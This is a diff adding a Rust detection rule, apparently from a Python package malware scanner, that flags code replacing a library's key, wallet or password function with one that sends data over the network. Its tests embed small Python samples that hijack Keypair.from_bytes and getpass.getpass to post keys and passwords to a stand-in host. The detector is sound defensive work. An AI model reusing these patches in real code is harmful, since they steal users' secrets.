@@ -1,0 +1,196 @@
+//! WH260 api-hijack: replacing a library's key, wallet or password function with one of the
+//! module's own that talks to the network.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+use ruff_python_ast::{Expr, ExprCall};
+use ruff_text_size::{Ranged, TextRange};
+
+use crate::finding::{Category, ExecContext, Rule};
+use crate::walker::Checker;
+
+/// The detector.
+pub const RULE: Rule = Rule {
+    id: "WH260",
+    name: "api-hijack",
+    description: "Replaces an imported library's key, wallet, seed or password function with a function of its own that sends data over the network",
+    rationale: "Wallet stealers of 2024–2025 (Solana and Ethereum helper packages) leave the \
+                victim's code alone and patch the library it calls: `Keypair.from_bytes`, \
+                `Account.create`, `getpass.getpass` now also send the key they see. Nothing \
+                runs at install or import but the patch, so no flow is visible there. \
+                Instrumentation libraries patch HTTP and database clients, never key \
+                constructors, so the target's name decides together with the network call \
+                inside the replacement.",
+    category: Category::Sink,
+};
+
+/// Names of attributes or classes that hold or make key material or passwords.
+static KEY_MATERIAL: LazyLock<Regex> = crate::static_regex!(
+    r"(?i)(keypair|private_?key|secret_?key|from_?key|from_?seed|seed|mnemonic|wallet|passphrase|getpass|password|from_bytes|from_base58|from_json|account\.(create|from|sign|encrypt|decrypt|privatekey)|sign_transaction|signer|bip(32|39|44)|wif)"
+);
+
+/// A replacement noted while walking, judged once the module's findings are in.
+#[derive(Debug, Clone)]
+pub struct PendingPatch {
+    /// The replaced attribute, as resolved (`solders.keypair.Keypair.from_bytes`).
+    pub target: String,
+    /// The module-level function put in its place.
+    pub function: String,
+    /// Where the replacement is made.
+    pub range: TextRange,
+    /// When the replacement is made.
+    pub context: ExecContext,
+}
+
+/// The module function a replacement value stands for: `f`, `staticmethod(f)`,
+/// `classmethod(f)`, `functools.wraps(orig)(f)`.
+fn replacement_function(checker: &Checker, value: &Expr) -> Option<String> {
+    match value {
+        Expr::Name(name) if checker.is_module_function(name.id.as_str()) => {
+            Some(name.id.to_string())
+        }
+        Expr::Call(call) => {
+            let wrapper = checker.qualname(&call.func).unwrap_or_default();
+            let wraps = matches!(wrapper.as_str(), "staticmethod" | "classmethod")
+                || matches!(&*call.func, Expr::Call(inner)
+                    if checker.qualname(&inner.func).is_some_and(|q| q.ends_with("wraps")));
+            if !wraps {
+                return None;
+            }
+            replacement_function(checker, call.arguments.args.first()?)
+        }
+        _ => None,
+    }
+}
+
+/// The resolved name of `owner.attribute` when `owner` is something imported (not one of the
+/// module's own classes) and the name is about key material.
+fn hijacked_target(checker: &Checker, owner: &Expr, attribute: &str) -> Option<String> {
+    let mut root = owner;
+    while let Expr::Attribute(inner) = root {
+        root = &inner.value;
+    }
+    let Expr::Name(root) = root else {
+        return None;
+    };
+    checker.scopes.alias(root.id.as_str())?;
+    let owner = checker.qualname(owner)?;
+    let target = format!("{owner}.{attribute}");
+    KEY_MATERIAL.is_match(&target).then_some(target)
+}
+
+/// `Keypair.from_bytes = staticmethod(_patched)`: notes the replacement for
+/// [`check_pending`].
+pub fn check_assignment(checker: &mut Checker, target: &Expr, value: &Expr, range: TextRange) {
+    let Expr::Attribute(attribute) = target else {
+        return;
+    };
+    let Some(target) = hijacked_target(checker, &attribute.value, attribute.attr.as_str()) else {
+        return;
+    };
+    let Some(function) = replacement_function(checker, value) else {
+        return;
+    };
+    let context = checker.context();
+    checker.note_patch(PendingPatch {
+        target,
+        function,
+        range,
+        context,
+    });
+}
+
+/// `setattr(Keypair, 'from_bytes', _patched)`: as the assignment.
+pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    if qualname != "setattr" {
+        return;
+    }
+    let [owner, name, value, ..] = call.arguments.args.as_ref() else {
+        return;
+    };
+    let Some(attribute) = checker.fold(name).and_then(|v| v.as_text()) else {
+        return;
+    };
+    let Some(target) = hijacked_target(checker, owner, &attribute) else {
+        return;
+    };
+    let Some(function) = replacement_function(checker, value) else {
+        return;
+    };
+    let context = checker.context();
+    checker.note_patch(PendingPatch {
+        target,
+        function,
+        range: call.range(),
+        context,
+    });
+}
+
+/// After the walk: each noted replacement whose function sends or fetches (a WH130 finding
+/// inside it) is reported where the replacement is made.
+pub fn check_pending(checker: &mut Checker) {
+    for patch in checker.take_patches() {
+        let Some(def_line) = checker.module_function_line(&patch.function) else {
+            continue;
+        };
+        let Some(send) = checker
+            .findings
+            .iter()
+            .find(|f| f.rule == "WH130" && f.scope == def_line)
+            .map(|f| format!("{} ({})", f.message, f.location()))
+        else {
+            continue;
+        };
+        let severity = match patch.context {
+            ExecContext::Install | ExecContext::Import => 0.9,
+            ExecContext::Runtime => 0.6,
+            ExecContext::TestOrDocs => 0.1,
+        };
+        checker.report(
+            &RULE,
+            patch.range,
+            format!(
+                "replaces {} with {}, which {}: every key or password the library handles {}",
+                patch.target,
+                patch.function,
+                crate::text::shorten(&send, 140),
+                "goes out with it"
+            ),
+            severity,
+            vec!["api-hijack"],
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::testing::max_severity;
+
+    const PATCH: &str = "import requests\nfrom solders.keypair import Keypair\n_orig = Keypair.from_bytes\n\ndef _patched(raw):\n    kp = _orig(raw)\n    requests.post('https://x.invalid/log', json={'k': bytes(raw).hex()})\n    return kp\n\nKeypair.from_bytes = staticmethod(_patched)\n";
+
+    #[test]
+    fn key_constructors_replaced_by_senders_are_hijacked() {
+        assert!(max_severity("p/pkg/__init__.py", PATCH, "WH260") >= 0.9);
+        let setattr = PATCH.replace(
+            "Keypair.from_bytes = staticmethod(_patched)",
+            "setattr(Keypair, 'from_bytes', _patched)",
+        );
+        assert!(max_severity("p/pkg/__init__.py", &setattr, "WH260") >= 0.9);
+        let getpass = "import getpass, urllib.request\n_real = getpass.getpass\ndef _grab(prompt='Password: '):\n    p = _real(prompt)\n    urllib.request.urlopen('https://x.invalid/p', data=p.encode())\n    return p\ngetpass.getpass = _grab\n";
+        assert!(max_severity("p/pkg/__init__.py", getpass, "WH260") >= 0.9);
+    }
+
+    #[test]
+    fn instrumentation_and_quiet_patches_are_not_hijacks() {
+        // Tracing libraries wrap HTTP clients, whose original sends.
+        let tracing = "import requests\n_send = requests.Session.send\ndef _traced(self, request, **kw):\n    return _send(self, request, **kw)\nrequests.Session.send = _traced\n";
+        assert!(max_severity("p/pkg/__init__.py", tracing, "WH260") < 0.1);
+        // A key patch that sends nothing (a compatibility shim).
+        let shim = "from solders.keypair import Keypair\ndef _from_bytes(raw):\n    return Keypair.from_seed(bytes(raw)[:32])\nKeypair.from_bytes = staticmethod(_from_bytes)\n";
+        assert!(max_severity("p/pkg/__init__.py", shim, "WH260") < 0.1);
+        // The module's own class.
+        let own = "import requests\nclass Wallet:\n    pass\ndef _save(self):\n    requests.post('https://api.example.invalid/w', json={})\nWallet.save_key = _save\n";
+        assert!(max_severity("p/pkg/__init__.py", own, "WH260") < 0.1);
+    }
+}
